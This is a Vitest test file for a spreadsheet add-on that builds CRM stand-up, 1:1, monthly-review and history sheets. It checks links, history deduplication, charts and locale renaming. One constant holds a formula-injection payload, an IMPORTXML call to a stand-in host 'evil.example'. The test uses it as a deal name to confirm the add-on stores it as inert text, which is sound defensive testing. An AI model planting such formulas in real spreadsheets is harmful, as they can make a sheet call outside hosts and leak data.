/**
 * writeRhythmSheets in the local Apps Script runtime (the fakes of SpreadsheetApp and Charts that
 * the add-on runs against): the five sheets exist with their content, links are HYPERLINK formulas
 * to our own account address, a deal named like a formula stays text, the history appends a day
 * and replaces a re-run day without duplicates, and the charts exist.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { MEASURED_COSTS, type Runtime } from "../../local/gas-runtime/index";
import { rhythmRuntime } from "./runtime";

const SEED = 7;
const SCENARIO = "small";
const NOW = Date.parse("2026-10-31T18:00:00+03:00");
const YESTERDAY = NOW - 86_400_000;
const EVIL = '=IMPORTXML("https://evil.example/x", "//a")';

interface Result {
  sheets: string[];
  standupDeals: number[];
  historyDaysWritten: number;
  historyRows: number;
  charts: number;
  renamed: number | null;
  virtualMs: number;
}

type Cell = string | number | boolean | Date;

function values(rt: Runtime, name: string): Cell[][] {
  const sheet = rt.spreadsheet.getSheetByName(name);
  if (!sheet) throw new Error(`no sheet ${name}`);
  return sheet.getDataRange().getValues() as Cell[][];
}

function historyKeys(rt: Runtime): string[] {
  return values(rt, "История")
    .slice(1)
    .filter((r) => r[0] !== "")
    .map((r) => `${r[0]}/${r[1]}/${r[3]}`);
}

describe("the rhythm sheets in the Apps Script runtime", () => {
  let rt: Runtime;
  const runs: Result[] = [];

  beforeAll(() => {
    rt = rhythmRuntime(NOW, { costs: MEASURED_COSTS });
    // Yesterday's sync (backfills the history), today's, and a second sync today.
    runs.push(rt.call<Result>("writeDemo", { seed: SEED, scenario: SCENARIO, asOf: YESTERDAY }));
    runs.push(rt.call<Result>("writeDemo", { seed: SEED, scenario: SCENARIO, evilName: EVIL }));
    runs.push(rt.call<Result>("writeDemo", { seed: SEED, scenario: SCENARIO, evilName: EVIL }));
  }, 120_000);

  it("creates the five sheets with Russian names", () => {
    expect(runs[1]!.sheets).toEqual([
      "Стендап",
      "1:1",
      "Итоги месяца",
      "История",
      "История: данные графиков",
      "Гигиена данных",
    ]);
    const names = rt.spreadsheet.getSheets().map((s) => s.getName());
    for (const n of runs[1]!.sheets) expect(names.filter((x) => x === n)).toHaveLength(1);
  });

  it("the stand-up lists 5 deals with links built from our address and the numeric id", () => {
    const sheet = rt.spreadsheet.getSheetByName("Стендап")!;
    const v = values(rt, "Стендап");
    expect(String(v[0]![0])).toMatch(/^Летучка на 31\.10\.2026 18:00: сделок для разбора — 5$/);
    const formulas = sheet
      .getRange(4, 2, 5, 1)
      .getFormulas()
      .map((r) => r[0]);
    expect(formulas).toEqual(
      runs[1]!.standupDeals.map((id) => `=HYPERLINK("https://demo.amocrm.ru/leads/detail/${id}", "${id}")`),
    );
    // Rank, and a reason text on every card.
    expect(v.slice(3, 8).map((r) => r[0])).toEqual([1, 2, 3, 4, 5]);
    for (const r of v.slice(3, 8)) expect(String(r[6]).length).toBeGreaterThan(5);
  });

  it("a deal named like a formula stays text", () => {
    const sheet = rt.spreadsheet.getSheetByName("Стендап")!;
    expect(sheet.getRange(4, 3).getValue()).toBe(EVIL);
    expect(sheet.getRange(4, 3).getFormula()).toBe("");
    // Nowhere in any rhythm sheet is the name a formula.
    for (const name of runs[1]!.sheets) {
      const s = rt.spreadsheet.getSheetByName(name)!;
      const f = s.getDataRange().getFormulas().flat();
      expect(f.filter((x) => x.includes("IMPORTXML"))).toEqual([]);
      expect(
        f.filter((x) => x !== "" && !x.startsWith('=HYPERLINK("https://demo.amocrm.ru/leads/detail/')),
      ).toEqual([]);
    }
  });

  it("the 1:1 has one block per manager, the monthly review and hygiene have their sections", () => {
    const one = values(rt, "1:1").map((r) => String(r[0]));
    expect(one[0]).toMatch(/^1:1 — неделя 25\.10\.2026 – 31\.10\.2026 против 18\.10\.2026 – 24\.10\.2026/);
    expect(one.filter((x) => x === "Метрика").length).toBe(4);
    const monthly = values(rt, "Итоги месяца").map((r) => String(r[0]));
    expect(monthly).toContain("Причины отказа");
    expect(monthly).toContain("Настройки, по которым считались цифры");
    const hygiene = values(rt, "Гигиена данных").map((r) => String(r[0]));
    expect(hygiene).toContain("Без источника");
    expect(hygiene).toContain("Открытые без следующего шага");
  });

  it("history: backfilled from the first day, then today appended, then today replaced — never duplicated", () => {
    const [first, second, third] = runs as [Result, Result, Result];
    expect(first.historyDaysWritten).toBeGreaterThan(50);
    expect(second.historyDaysWritten).toBe(1);
    expect(third.historyDaysWritten).toBe(1);
    expect(third.historyRows).toBe(second.historyRows);
    const keys = historyKeys(rt);
    expect(keys.length).toBe(third.historyRows);
    expect(new Set(keys).size).toBe(keys.length);
    const days = [...new Set(keys.map((k) => k.split("/")[0]))];
    expect(days.at(-1)).toBe("2026-10-31");
    expect(days.at(-2)).toBe("2026-10-30");
    expect(days).toEqual([...days].sort());
    // Snapshot metrics only on the days a sync ran.
    const snapshotDays = new Set(keys.filter((k) => k.endsWith("/stale_share")).map((k) => k.split("/")[0]));
    expect([...snapshotDays].sort()).toEqual(["2026-10-30", "2026-10-31"]);
  });

  it("history has line charts of SLA share, win rate and revenue per manager", () => {
    const sheet = rt.spreadsheet.getSheetByName("История")!;
    const charts = sheet.getCharts();
    expect(charts).toHaveLength(3);
    expect(runs[2]!.charts).toBe(3);
    const titles = charts.map((c) => String(c.getOptions().get("title")));
    expect(titles).toEqual([
      "Доля лидов в нормативе SLA по менеджерам (скользящие 30 дней)",
      expect.stringMatching(/по менеджерам/),
      expect.stringMatching(/^Выручка.* по менеджерам/),
    ]);
    for (const c of charts) {
      const range = c.getRanges()[0]!;
      const head = range.getValues()[0]!;
      // The first column is the day, then one series per manager and the department last.
      expect(head.at(-1)).toBe("Отдел");
      expect(head.length).toBe(4 + 2);
      expect(range.getNumRows()).toBe(new Set(historyKeys(rt).map((k) => k.split("/")[0])).size + 1);
      // The chart tables live on a hidden sheet of their own, not beside the long table.
      expect(range.getSheet().getName()).toBe("История: данные графиков");
    }
    expect(rt.spreadsheet.getSheetByName("История: данные графиков")!.isSheetHidden()).toBe(true);
    // The History grid stays as narrow as its table (+ the charts' anchor column): its long rows
    // would otherwise be as wide as the chart tables (a 50-manager year: 27 M cells).
    expect(sheet.getMaxColumns()).toBe(10);
  });

  it("switching the locale renames the sheets instead of duplicating them", () => {
    rt.call("writeDemo", { seed: SEED, scenario: SCENARIO, locale: "en" });
    const names = rt.spreadsheet.getSheets().map((s) => s.getName());
    expect(names).toEqual(
      expect.arrayContaining(["Stand-up", "1:1", "Monthly review", "History", "Data hygiene"]),
    );
    expect(names).not.toContain("Стендап");
    expect(String(values(rt, "Stand-up")[0]![0])).toMatch(/^Stand-up for 31\.10\.2026 18:00/);
    // The history kept its rows (no duplicates after a fourth run the same day).
    const keys = values(rt, "History")
      .slice(1)
      .map((r) => `${r[0]}/${r[1]}/${r[3]}`);
    expect(new Set(keys).size).toBe(keys.length);
    expect(keys.length).toBe(runs[2]!.historyRows);
    expect(values(rt, "History")[0]!.slice(0, 3)).toEqual(["Date", "Manager id", "Manager"]);
  });

  it("a history table a user re-sorted is rewritten in order, still without duplicates", () => {
    const sheet = rt.spreadsheet.getSheetByName("History")!;
    const before = historyRowsOf(rt);
    sheet.getRange(2, 1, sheet.getLastRow() - 1, 8).sort({ column: 4, ascending: false });
    expect(historyRowsOf(rt)).not.toEqual(before);
    rt.call("writeDemo", { seed: SEED, scenario: SCENARIO, locale: "en" });
    expect(historyRowsOf(rt)).toEqual(before);
  });
});

describe("History in a spreadsheet near its 10 M cells", () => {
  it("backfills the newest days that fit in half the free cells, today always, and no more", () => {
    const rt = rhythmRuntime(NOW, { costs: MEASURED_COSTS });
    const cells = (sh: GoogleAppsScript.Spreadsheet.Sheet) => sh.getMaxRows() * sh.getMaxColumns();
    const outside = () =>
      rt.spreadsheet
        .getSheets()
        .filter((sh) => sh.getName() !== "История" && sh.getName() !== "История: данные графиков")
        .reduce((n, sh) => n + cells(sh), 0);
    // Every sheet there once; then History emptied (its first backfill again) beside raw tables
    // of a big team, stood in for by one sheet that leaves 30 k cells free (this small team's
    // history is ~21 k cells: the budget, half of the free cells, holds about two thirds of it).
    rt.call("writeDemo", { seed: SEED, scenario: SCENARIO });
    const emptied = rt.spreadsheet.getSheetByName("История")!;
    emptied.clear();
    emptied.deleteRows(3, emptied.getMaxRows() - 2);
    const rows = Math.floor((10_000_000 - outside() - 30_000) / 100);
    const big = rt.spreadsheet.insertSheet("raw");
    big.insertColumnsAfter(26, 100 - 26);
    big.insertRowsAfter(1000, rows - 1000);
    const r = rt.call<Result & { historyDaysSkipped: number }>("writeDemo", {
      seed: SEED,
      scenario: SCENARIO,
    });
    const history = rt.spreadsheet.getSheetByName("История")!;
    const others = outside();
    // Some backfill days were left out, the newest kept (today last), within the budget.
    expect(r.historyDaysSkipped).toBeGreaterThan(5);
    expect(r.historyDaysWritten).toBeGreaterThan(0);
    const days = [...new Set(historyKeys(rt).map((k) => k.split("/")[0]))].sort();
    expect(days.at(-1)).toBe("2026-10-31");
    expect(days.length).toBe(r.historyDaysWritten);
    // Within half the free cells (the grid keeps at least its first 1,000 rows).
    expect(cells(history)).toBeLessThanOrEqual(Math.max((10_000_000 - others) / 2, 10 * 1000));
    // A second run the same day rewrites today only, keeping every day already there.
    const again = rt.call<Result>("writeDemo", { seed: SEED, scenario: SCENARIO });
    expect(again.historyDaysWritten).toBe(1);
    expect([...new Set(historyKeys(rt).map((k) => k.split("/")[0]))]).toEqual(days);
  });
});

/** Day, manager id, metric id, value, numerator, denominator (names follow the locale of the last full write). */
function historyRowsOf(rt: Runtime): string[] {
  return values(rt, "History")
    .slice(1)
    .map((r) => [r[0], r[1], r[3], r[5], r[6], r[7]].join("|"));
}
